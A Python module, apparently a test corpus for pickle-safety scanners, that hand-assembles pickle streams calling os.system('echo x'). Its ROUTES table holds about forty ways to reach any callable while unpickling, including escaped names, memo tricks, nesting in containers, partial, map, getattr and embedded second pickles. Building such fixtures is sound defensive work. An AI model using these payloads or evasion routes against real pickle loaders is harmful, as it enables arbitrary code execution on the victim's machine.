"""Pickle streams, opcode by opcode (pickletools of CPython 3.13 names and explains each of them)."""

from __future__ import annotations

import struct
from collections.abc import Callable

WORD = "echo x"
SYSTEM = b"cos\nsystem\n"
ARGS = b"(S'echo x'\nt"
# The shortest streams that call os.system, of the oldest and of a new protocol.
OLD = SYSTEM + ARGS + b"R."


def text(value: str) -> bytes:
    """SHORT_BINUNICODE"""
    raw = value.encode()
    return b"\x8c" + bytes([len(raw)]) + raw


def long_text(value: str) -> bytes:
    """BINUNICODE"""
    raw = value.encode()
    return b"X" + struct.pack("<I", len(raw)) + raw


def bytes8(value: bytes) -> bytes:
    """BINBYTES"""
    return b"B" + struct.pack("<I", len(value)) + value


def global_(module: str, name: str) -> bytes:
    return f"c{module}\n{name}\n".encode()


def stack_global(module: str, name: str) -> bytes:
    return text(module) + text(name) + b"\x93"


def proto(number: int) -> bytes:
    return bytes([0x80, number])


def framed(body: bytes) -> bytes:
    return proto(4) + b"\x95" + struct.pack("<Q", len(body)) + body


def call(module: str, name: str, *arguments: str, protocol: int = 4) -> bytes:
    """A whole stream that calls module.name with some texts."""
    arguments = arguments or (WORD,)
    if protocol >= 4:
        inside = b"(" + b"".join(text(argument) for argument in arguments) + b"t"
        return proto(protocol) + stack_global(module, name) + inside + b"R."
    if protocol >= 2:
        inside = b"(" + b"".join(long_text(argument) for argument in arguments) + b"t"
        return proto(protocol) + global_(module, name) + inside + b"R."
    inside = b"(" + b"".join(b"S" + repr(argument).encode() + b"\n" for argument in arguments) + b"t"
    return global_(module, name) + inside + b"R."


NEW = call("os", "system")

Route = Callable[[str, str], bytes]
_ONE = text(WORD) + b"\x85"

# How a stream gets from the names of a callable to its call.
ROUTES: dict[str, Route] = {
    "reduce 0": lambda m, n: call(m, n, protocol=0),
    "reduce 1 binstring": lambda m, n: global_(m, n) + b"(U\x06echo xtR.",
    "reduce 2": lambda m, n: call(m, n, protocol=2),
    "reduce 3 bytes": lambda m, n: proto(3) + global_(m, n) + b"C\x06echo x\x85R.",
    "reduce 4": lambda m, n: call(m, n),
    "reduce 4 framed": lambda m, n: framed(stack_global(m, n) + _ONE + b"R."),
    "reduce 5": lambda m, n: call(m, n, protocol=5),
    "reduce 5 long names": lambda m, n: (
        proto(5) + b"\x8d" + struct.pack("<Q", len(m)) + m.encode() + long_text(n) + b"\x93" + _ONE + b"R."
    ),
    "reduce 4 old strings": lambda m, n: proto(4) + f"S'{m}'\nV{n}\n\x93".encode("latin-1") + _ONE + b"R.",
    "reduce 4 unicode escapes": lambda m, n: (
        proto(4)
        + b"V"
        + "".join(f"\\u{ord(c):04x}" for c in m).encode()
        + b"\n"
        + text(n)
        + b"\x93"
        + _ONE
        + b"R."
    ),
    "reduce 4 string escapes": lambda m, n: (
        proto(4)
        + b"S'"
        + "".join(f"\\x{ord(c):02x}" for c in m).encode()
        + b"'\n"
        + text(n)
        + b"\x93"
        + _ONE
        + b"R."
    ),
    "inst": lambda m, n: f"(S'echo x'\ni{m}\n{n}\n.".encode(),
    "obj": lambda m, n: b"(" + global_(m, n) + b"S'echo x'\no.",
    "newobj": lambda m, n: proto(2) + global_(m, n) + b"(X\x06\0\0\0echo xt\x81.",
    "newobj ex": lambda m, n: proto(4) + stack_global(m, n) + _ONE + b"}\x92.",
    "names from binput": lambda m, n: (
        proto(4) + text(m) + b"q\0" + text(n) + b"q\x0100h\0h\x01\x93" + _ONE + b"R."
    ),
    "names from long binput": lambda m, n: (
        proto(4)
        + text(m)
        + b"r\x07\x01\0\0"
        + text(n)
        + b"r\x08\x01\0\x0000j\x07\x01\0\0j\x08\x01\0\0\x93"
        + _ONE
        + b"R."
    ),
    "names from put": lambda m, n: (
        proto(4) + text(m) + b"p5\n" + text(n) + b"p6\n00g5\ng6\n\x93" + _ONE + b"R."
    ),
    "names memoised": lambda m, n: (
        proto(4) + text(m) + b"\x94" + text(n) + b"\x9400h\0h\x01\x93" + _ONE + b"R."
    ),
    "called later": lambda m, n: global_(m, n) + b"p0\n0(lp1\n0g0\n" + ARGS + b"R.",
    "called and dropped": lambda m, n: global_(m, n) + ARGS + b"R0(dp0\n.",
    "called and dropped by mark": lambda m, n: proto(2) + b"(" + global_(m, n) + ARGS + b"R1N.",
    "in a list": lambda m, n: proto(2) + b"](" + global_(m, n) + ARGS + b"Re.",
    "in a dict": lambda m, n: proto(2) + b"}(U\x01a" + global_(m, n) + ARGS + b"Ru.",
    "as a key": lambda m, n: proto(2) + b"}" + global_(m, n) + ARGS + b"RNs.",
    "in a set": lambda m, n: proto(4) + b"\x8f(" + stack_global(m, n) + _ONE + b"R\x90.",
    "in a frozenset": lambda m, n: proto(4) + b"(" + stack_global(m, n) + _ONE + b"R\x91.",
    "as a state": lambda m, n: (
        proto(2) + b"ccollections\nOrderedDict\n)R}U\x01a" + global_(m, n) + ARGS + b"Rsb."
    ),
    "as an argument": lambda m, n: (
        proto(2) + b"ccollections\nOrderedDict\n(" + global_(m, n) + ARGS + b"RtR."
    ),
    "as a default factory": lambda m, n: (
        proto(2) + b"ccollections\ndefaultdict\n" + global_(m, n) + b"\x85R."
    ),
    "as a constructor": lambda m, n: (
        b"ccopy_reg\n_reconstructor\n(" + global_(m, n) + b"c__builtin__\nobject\nNtR."
    ),
    "as a newobj function": lambda m, n: (
        proto(4) + b"ccopyreg\n__newobj__\n(" + stack_global(m, n) + text(WORD) + b"tR."
    ),
    "by partial": lambda m, n: proto(2) + b"cfunctools\npartial\n" + global_(m, n) + b"U\x06echo x\x86R)R.",
    "by map": lambda m, n: (
        proto(2) + b"cbuiltins\nlist\ncbuiltins\nmap\n" + global_(m, n) + b"](U\x06echo xe\x86R\x85R."
    ),
    "by getattr": lambda m, n: (
        proto(2)
        + b"c__builtin__\ngetattr\nc__builtin__\n__import__\nU"
        + bytes([len(m)])
        + m.encode()
        + b"\x85RU"
        + bytes([len(n)])
        + n.encode()
        + b"\x86RU\x06echo x\x85R."
    ),
    "import only": lambda m, n: proto(2) + global_(m, n) + b".",
    "import and drop": lambda m, n: proto(2) + global_(m, n) + b"0N.",
    "second pickle": lambda m, n: proto(2) + b"}." + call(m, n),
    "hundredth pickle": lambda m, n: (proto(2) + b"}.") * 99 + call(m, n),
    "inside bytes": lambda m, n: (
        proto(4) + stack_global("pickle", "loads") + b"C" + bytes([len(call(m, n))]) + call(m, n) + b"\x85R."
    ),
}
